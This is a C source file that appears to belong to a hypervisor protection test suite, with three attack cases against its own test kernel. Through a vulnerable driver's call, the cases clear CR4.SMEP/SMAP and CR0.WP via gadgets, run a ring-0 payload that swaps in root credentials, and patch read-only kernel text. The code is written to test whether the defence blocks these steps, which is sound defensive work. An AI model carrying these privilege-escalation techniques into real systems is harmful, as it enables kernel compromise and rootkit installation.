/*
 * Control-register attacks (docs/attacks.md, family 1-3): switch a CPU protection off through a
 * kernel gadget reached with the vulnerable driver's controlled call, then use the gap.
 */
#include "lib/x86.h"
#include "vbs/user/ulib.h"

/* What the ring-0 payload needs: it runs at a user address with CPL 0 (only possible with SMEP off). */
struct smep_ctx {
    u64 cred_slot;   /* &current->cred */
    u64 root_cred;   /* cred_root */
    u64 ran;         /* set by the payload */
};
#define PAYLOAD_RAN 0x72696e672d30ull /* "ring-0" */

/* commit_creds(root) in miniature: runs in ring 0 from a user page. */
static u64 smep_payload(u64 arg)
{
    struct smep_ctx *c = (struct smep_ctx *)arg;
    *(volatile u64 *)c->cred_slot = c->root_cred;
    c->ran = PAYLOAD_RAN;
    return 0;
}

/*
 * cr4-smep: LKDTM UNSET_SMEP / the classic "native_write_cr4(0x6f0)" ROP step: clear CR4.SMEP (and
 * SMAP, so the payload can read its context) through a "mov %rdi,%cr4; ret" gadget, then have the
 * kernel call a payload in a user page.  Success: the payload ran in ring 0 and we are uid 0.
 */
static int attack_cr4_smep(const char *args)
{
    (void)args;
    u64 gadget = ksym("gadget_write_cr4"), cr4 = kread(ksym("cr4_shadow"));
    u64 cur = kread(ksym("current")), root = kread(ksym("cred_root"));
    if (!gadget || !cur || !root)
        attack_error("missing symbols");
    if (!(cr4 & CR4_SMEP))
        attack_error("SMEP is not on (cr4=0x%lx): nothing to defeat", cr4);
    struct smep_ctx *c = (struct smep_ctx *)U_SCRATCH;
    *c = (struct smep_ctx){cur + __builtin_offsetof(struct proc, cred), root, 0};
    u64 want = cr4 & ~(u64)(CR4_SMEP | CR4_SMAP);
    u_printf("  attack: uid %ld; CR4 0x%lx -> 0x%lx through gadget_write_cr4 at 0x%lx\n", u_getuid(), cr4, want,
             gadget);
    kcall(gadget, want); /* with HyperGuard: VTL1 intercepts the CR4 write and injects #GP: we are killed */
    kcall((u64)smep_payload, (u64)c);
    long uid = u_getuid();
    if (c->ran == PAYLOAD_RAN && uid == 0)
        attack_succeeded("ring-0 payload at user address 0x%lx ran (SMEP off); uid is now 0", (u64)smep_payload);
    attack_blocked("payload did not take effect (ran=0x%lx, uid %ld)", c->ran, uid);
}
UATTACK("cr4-smep", attack_cr4_smep);

/*
 * cr0-wp: the rootkit classic "write_cr0(read_cr0() & ~X86_CR0_WP)" (used to patch kernel text or the
 * system-call table; the reason Linux pins CR0.WP since 5.3): clear CR0.WP through a "mov %rdi,%cr0;
 * ret" gadget, then write kernel text through the kernel's own read-only mapping of it.  The bytes we
 * write are code (mov $CR0_MAGIC, %eax; ret) over the start of run_checks (not run during an attack);
 * success: the kernel text changed and calling it in ring 0 returns our magic.  The text and CR0 are
 * put back afterwards.  (HVCI, which makes text read-only in the NPT whatever CR0 says, is off in both
 * runs: this row tests the CR0 lock alone.)
 */
#define CR0_MAGIC 0x1ee7c0deu
static int attack_cr0_wp(const char *args)
{
    u64 gw = ksym("gadget_write_cr0"), gr = ksym("gadget_read_cr0"), text = ksym("run_checks");
    if (!gw || !gr || !text)
        attack_error("missing symbols");
    u64 cr0 = (u64)kcall(gr, 0);
    if (!(cr0 & CR0_WP))
        attack_error("CR0.WP is not on (cr0=0x%lx): nothing to defeat", cr0);
    const u8 patch[8] = {0xb8, CR0_MAGIC & 0xff, (CR0_MAGIC >> 8) & 0xff, (CR0_MAGIC >> 16) & 0xff, CR0_MAGIC >> 24,
                         0xc3, 0xcc, 0xcc}; /* mov $CR0_MAGIC, %eax; ret; int3; int3 */
    u64 code, orig = kread(text);
    memcpy(&code, patch, 8);
    u_printf("  attack: uid %ld; CR0 0x%lx -> 0x%lx through gadget_write_cr0 at 0x%lx, then write kernel text at 0x%lx "
             "(mapped read-only)\n", u_getuid(), cr0, cr0 & ~(u64)CR0_WP, gw, text);
    if (!u_arg(args, "wp_control")) /* wp_control=1: the control, the same write with CR0.WP left on */
        kcall(gw, cr0 & ~CR0_WP); /* with HyperGuard: VTL1 intercepts the CR0 write and injects #GP: we are killed */
    kwrite(text, code);       /* with CR0.WP set: a #PF in the driver, the process dies */
    u64 now = kread(text);
    u64 r = (u64)kcall(text, 0) & 0xffffffffu;
    kwrite(text, orig);
    kcall(gw, cr0);
    if (now == code && r == CR0_MAGIC && kread(text) == orig)
        attack_succeeded("kernel text at 0x%lx rewritten through its read-only mapping (CR0.WP off); our code "
                         "ran in ring 0 and returned 0x%lx; text and CR0 restored", text, r);
    attack_blocked("text not changed (read 0x%lx, call returned 0x%lx)", now, r);
}
UATTACK("cr0-wp", attack_cr0_wp);

/*
 * cr4-smap: clear CR4.SMAP (the ROP step "native_write_cr4(cr4 & ~X86_CR4_SMAP)" exploits use so that
 * the kernel can read a fake structure they plant in user memory, e.g. a forged ops table or ROP
 * stack), then make the kernel dereference a user pointer: the driver's read of our own page.
 * Success: the value we planted came back from a kernel-mode read of a user address (with SMAP on,
 * that read is a #PF oops).  CR4 is put back afterwards.
 */
#define SMAP_PLANT 0x736d61702d6f6666ull /* "ffo-pams" */
static int attack_cr4_smap(const char *args)
{
    u64 gadget = ksym("gadget_write_cr4"), cr4 = kread(ksym("cr4_shadow"));
    if (!gadget)
        attack_error("missing symbols");
    if (!(cr4 & CR4_SMAP))
        attack_error("SMAP is not on (cr4=0x%lx): nothing to defeat", cr4);
    volatile u64 *plant = (volatile u64 *)(U_SCRATCH + 0x40);
    *plant = SMAP_PLANT;
    bool skip = u_arg(args, "smap_control") != NULL; /* smap_control=1: the control, the read with SMAP left on */
    u_printf("  attack: CR4 0x%lx -> 0x%lx through gadget_write_cr4 at 0x%lx, then a kernel read of user address "
             "0x%lx%s\n", cr4, cr4 & ~(u64)CR4_SMAP, gadget, (u64)plant, skip ? " (control: CR4 left alone)" : "");
    if (!skip)
        kcall(gadget, cr4 & ~CR4_SMAP); /* with HyperGuard: VTL1 intercepts the CR4 write, #GP: we are killed */
    u64 v = kread((u64)plant);          /* with SMAP on: a #PF in the driver, the process dies */
    kcall(gadget, cr4);
    if (v == SMAP_PLANT)
        attack_succeeded("the kernel read our planted 0x%lx from user address 0x%lx (SMAP off); CR4 restored", v,
                         (u64)plant);
    attack_blocked("the kernel read 0x%lx, not our 0x%llx", v, SMAP_PLANT);
}
UATTACK("cr4-smap", attack_cr4_smap);
